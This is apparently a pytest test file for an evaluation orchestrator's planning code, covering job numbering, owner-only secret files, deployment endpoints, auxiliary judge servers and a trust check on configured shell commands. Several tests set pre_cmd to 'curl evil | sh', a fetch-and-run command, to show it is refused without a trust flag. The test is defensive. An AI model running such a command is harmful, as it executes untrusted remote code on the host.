"""evalyard.orchestrator.plan: from specs to jobs and plans, pure."""

from __future__ import annotations

from typing import Any

import pytest
from attrs import evolve

from evalyard.errors import ConfigError
from evalyard.orchestrator.plan import (
    MODEL_ASKED_LATER,
    Attempt,
    check_trust,
    first_attempts,
    headers,
    merged_needs,
    plan_attempts,
    secrets_of,
)
from evalyard.plugins.markers import hookimpl
from evalyard.plugins.session import Session
from evalyard.records.connections import Connection
from evalyard.records.files import PlannedFile, SecretRef
from evalyard.records.invocations import Invocation
from evalyard.records.jobs import Job
from evalyard.records.plans import Need, NeedKind, Plan
from evalyard.scoring.card import parse_card
from evalyard.specs import (
    AuxiliarySpec,
    CommandSpec,
    DeploymentSpec,
    EndpointSpec,
    EnvValue,
    RunSpec,
    Section,
    TaskSpec,
    ValueSource,
)
from tests.core.store.records import invocation, plans

TOKEN = EnvValue(source=ValueSource.HOST, text="MY_TOKEN", where="run.yaml:3")
JUDGE = AuxiliarySpec(
    name="judge",
    env_prefix="JUDGE",
    server=DeploymentSpec(
        type="demo",
        served_model_name="the-judge",
        env={"TOKEN": TOKEN},
        path="auxiliary_deployments.judge",
        places={"": "f:3:1"},
    ),
)


class Recorder:
    """An executor that keeps the jobs that it was asked to plan."""

    jobs: list[Job]

    @hookimpl
    def plan(self, settings: Any, job: Job) -> Plan:
        self.jobs.append(job)
        files = Need(key="files", kind=NeedKind.FILES, directory=job.run_dir, files=job.files)
        return Plan(
            job=job.id,
            task=job.task.name,
            attempt=job.attempt,
            name=job.name,
            mark=job.mark,
            directory=job.directory,
            needs=(files,),
        )


def spec(*tasks: TaskSpec, **fields: Any) -> RunSpec:
    given: dict[str, Any] = {
        "source": "run.yaml",
        "tasks": tasks,
        "endpoint": EndpointSpec(url="http://h/v1/completions", model_id="m"),
        "deployment": None,
        "execution": Section(name="toy", path="execution", data={}),
        "resolved": "the: whole\n",
    }
    return RunSpec(**(given | fields))


def task(name: str = "mine", **fields: Any) -> TaskSpec:
    return TaskSpec(name=name, harness=CommandSpec(command="run it"), **fields)


def planned(asked: RunSpec, attempts: tuple[Attempt, ...] = ()) -> tuple[list[Job], tuple[Plan, ...]]:
    """Plan a run; return the jobs that the executor saw, and its plans."""
    jobs: list[Job] = []
    session = Session(type("Toy", (Recorder,), {"jobs": jobs}), Connection(executor="toy"))
    header: Invocation = evolve(invocation(), jobs=headers(asked))
    return jobs, plan_attempts(asked, session, None, header, attempts or first_attempts(asked))


def test_jobs_are_numbered_from_one_in_the_order_of_the_tasks() -> None:
    found = headers(spec(task("b"), task("a"), task("b")))
    assert [(job.number, job.task, job.folder) for job in found] == [(1, "b", "b.0"), (2, "a", "a"), (3, "b", "b.1")]


def test_every_first_attempt_has_a_mark_of_its_own() -> None:
    attempts = first_attempts(spec(*[task()] * 3))
    assert [(attempt.number, attempt.attempt) for attempt in attempts] == [(1, 1), (2, 1), (3, 1)]
    assert len({attempt.mark for attempt in attempts}) == 3


def test_a_job_carries_all_that_its_executor_needs() -> None:
    (job,), (plan,) = planned(spec(task(env={"HF_TOKEN": TOKEN})), (Attempt(number=1, attempt=4, mark="mark"),))
    assert (job.id, job.name, job.mark) == ("a1b2c3d4.1", "ey-a1b2c3d4-1-4", "mark")
    assert job.directory == "/nowhere/run/mine"
    assert job.endpoint == EndpointSpec(url="http://h/v1/completions", type="completions", model_id="m")
    assert (job.harness.name, job.harness.script) == ("command", "run it")
    assert {file.path: (file.text, file.mode) for file in job.files if not file.secrets}["config.yaml"] == (
        "the: whole\n",
        0o644,
    )
    assert plan.name == job.name


def test_what_was_asked_of_a_job_is_in_its_folder_and_on_its_plan() -> None:
    jobs, made = planned(spec(task("a", params={"limit_samples": 10}), task("b")))
    for job, plan in zip(jobs, made, strict=True):
        (file,) = [file for file in job.files if file.path == f"{job.folder}/job.json"]
        assert parse_card(file.text) == plan.card
    cards = [plan.card for plan in made if plan.card]
    assert [(card.job, card.task, card.limit_samples) for card in cards] == [
        ("a1b2c3d4.1", "a", 10),
        ("a1b2c3d4.2", "b", None),
    ]


def test_planning_twice_gives_the_same_plan() -> None:
    asked, attempts = spec(task("a"), task("b")), (Attempt(number=2, mark="x"), Attempt(number=1, mark="y"))
    assert planned(asked, attempts)[1] == planned(asked, attempts)[1]


def test_secrets_are_planned_by_name_in_a_file_for_the_owner_alone() -> None:
    _, made = planned(spec(task("a", env={"HF_TOKEN": TOKEN}), task("b")))
    files = {file.path: file for need in merged_needs(made) for file in need.files}
    secret = SecretRef(name="HF_TOKEN", variable="MY_TOKEN", where="run.yaml:3")
    assert files["a/.secrets.env"] == PlannedFile(path="a/.secrets.env", mode=0o600, secrets=(secret,))
    assert "b/.secrets.env" not in files
    assert secrets_of(made) == (secret,)


def test_the_script_that_runs_all_tasks_again_names_every_folder() -> None:
    jobs, _ = planned(spec(task("a"), task("b")))
    text = next(file.text for file in jobs[0].files if file.path == "run_all.sequential.sh")
    assert "sh 'a/run.sh' || failed=1\nsh 'b/run.sh' || failed=1" in text


def test_a_model_that_nobody_named_is_asked_for_later() -> None:
    (job,), _ = planned(spec(task(), endpoint=EndpointSpec(url="http://h/v1/chat/completions")))
    assert job.endpoint.model_id == MODEL_ASKED_LATER


SERVED = DeploymentSpec(type="generic", command="serve", served_model_name="served", env={"HF_TOKEN": TOKEN})


def test_beside_a_deployment_the_url_is_known_later_and_the_model_is_the_servers() -> None:
    (job,), made = planned(spec(task(endpoint_type="completions"), endpoint=EndpointSpec(), deployment=SERVED))
    assert job.server is not None
    assert (job.endpoint.url, job.endpoint.model_id, job.endpoint.type) == (None, "served", "completions")
    paths = [file.path for need in merged_needs(made) for file in need.files]
    assert "deployment/.secrets.env" in paths


def test_everything_that_is_wrong_with_the_tasks_is_said_at_once() -> None:
    asked = spec(
        task(endpoint_type="vision"),
        TaskSpec(name="smok"),
        task("fine"),
        endpoint=EndpointSpec(),
        deployment=SERVED,
    )
    with pytest.raises(ConfigError) as caught:
        planned(asked)
    assert len(caught.value.problems) == 2
    assert "'vision'; the deployment has chat, completions, embedding" in caught.value.problems[0]
    assert "did you mean 'smoke'?" in caught.value.problems[1]


def test_a_need_that_several_plans_share_is_one_with_the_files_of_all() -> None:
    def need(key: str, *paths: str) -> Need:
        return Need(key=key, kind=NeedKind.FILES, files=tuple(PlannedFile(path=path, text=path) for path in paths))

    one, other = plans(invocation(jobs=2))
    merged = merged_needs(
        [
            evolve(one, needs=(need("files", "a", "shared"), need("server"))),
            evolve(other, needs=(need("files", "b", "shared"), need("network"))),
        ]
    )
    assert [(item.key, [file.path for file in item.files]) for item in merged] == [
        ("files", ["a", "shared", "b"]),
        ("server", []),
        ("network", []),
    ]


@pytest.mark.parametrize("text", ["pre_cmd", "post_cmd"])
def test_shell_text_of_a_configuration_runs_only_when_it_is_trusted(text: str) -> None:
    asked = spec(task("plain"), task("gated", **{text: "curl evil | sh"}))
    with pytest.raises(ConfigError, match=r"^gated: pre_cmd and post_cmd run shell text") as caught:
        check_trust(asked, trusted=False)
    assert "--trust-pre-cmd" in (caught.value.hint or "")
    check_trust(asked, trusted=True)
    check_trust(evolve(asked, tasks=asked.tasks[:1]), trusted=False)


def test_shell_text_of_the_deployment_runs_only_when_it_is_trusted() -> None:
    asked = spec(task(), deployment=DeploymentSpec(type="demo", pre_cmd="curl evil | sh"))
    with pytest.raises(ConfigError, match=r"^deployment: pre_cmd and post_cmd run shell text"):
        check_trust(asked, trusted=False)
    check_trust(asked, trusted=True)


def test_servers_that_nobody_would_start_are_refused() -> None:
    with pytest.raises(ConfigError) as caught:
        planned(spec(task(), auxiliary_deployments=(JUDGE,)))
    assert caught.value.problems == (
        "f:3:1: auxiliary_deployments.judge: executor toy starts no auxiliary deployments in this version",
    )
    shape = Section(name="lepton", path="deployment.lepton_config", data={"resource_shape": "gpu"})
    with pytest.raises(ConfigError, match="only executor lepton reads it"):
        planned(spec(task(), deployment=DeploymentSpec(type="demo", executor_config=shape)))


class WithOthers(Recorder):
    """An executor that starts further model servers."""

    auxiliary_servers = True


def test_every_job_gets_the_further_servers_and_names_them_in_its_settings() -> None:
    WithOthers.jobs = []
    refers = {"extra": {"judge": {"url": "auxiliary_deployments.judge.chat_url"}}}
    tasks = (
        task(harness_config={"config": {"type": "auxiliary_deployments.judge.model_id"}}),
        TaskSpec(name="simple_evals.AIME_2025", params=refers),
    )
    endpoint = EndpointSpec(url="http://h/v1/chat/completions", model_id="m")
    run = spec(*tasks, auxiliary_deployments=(JUDGE,), endpoint=endpoint)
    plans = plan_attempts(
        run, Session(WithOthers, Connection(executor="toy")), None, invocation(jobs=2), first_attempts(run)
    )
    first, second = WithOthers.jobs
    assert [server.name for server in first.servers] == ["judge"]
    assert first.task.harness_config == {"config": {"type": "the-judge"}}
    assert {"deployment-judge/.secrets.env"} < {file.path for file in first.files}
    (settings,) = second.harness.files
    assert "url: ${JUDGE_CHAT_URL}" in settings.text.replace('"', "")
    assert "JUDGE_CHAT_URL" in second.contained.script
    assert plans[1].card is not None
    assert plans[1].card.parameters == refers, "a card says what was asked for"
    assert {ref.variable for ref in secrets_of(plans)} == {"MY_TOKEN"}


def test_a_harness_that_cannot_be_told_of_a_further_server_is_an_error() -> None:
    asked = TaskSpec(name="lm-eval.x", params={"args": "--judge auxiliary_deployments.judge.chat_url"})
    run = spec(asked, auxiliary_deployments=(JUDGE,))
    with pytest.raises(ConfigError, match="only nemo-evaluator's harnesses can be told of auxiliary_deployments"):
        plan_attempts(run, Session(WithOthers, Connection(executor="toy")), None, invocation(), first_attempts(run))


def test_shell_text_of_a_further_server_runs_only_when_it_is_trusted() -> None:
    server = evolve(JUDGE.server, pre_cmd="curl evil | sh")
    asked = spec(task(), auxiliary_deployments=(evolve(JUDGE, server=server),))
    with pytest.raises(ConfigError, match=r"^auxiliary_deployments.judge: pre_cmd and post_cmd run shell text"):
        check_trust(asked, trusted=False)


class Keyed(Recorder):
    """An executor whose model servers want a key."""

    server_key = "SERVERS_KEY"


@pytest.mark.parametrize(
    ("executor", "named", "found"),
    [(Keyed, None, "SERVERS_KEY"), (Keyed, "MINE", "MINE"), (Recorder, None, None)],
    ids=["the executor's", "the user's", "none"],
)
def test_a_served_endpoint_has_the_key_that_the_executor_gives_it(
    executor: type[Recorder], named: str | None, found: str | None
) -> None:
    executor.jobs = []
    run = spec(
        TaskSpec(name="t", harness=CommandSpec(command="true")),
        deployment=DeploymentSpec(type="demo"),
        endpoint=EndpointSpec(api_key_name=named),
    )
    session = Session(executor, Connection(executor="toy"))
    plan_attempts(run, session, None, invocation(), first_attempts(run))
    (job,) = executor.jobs
    assert job.endpoint.api_key_name == found
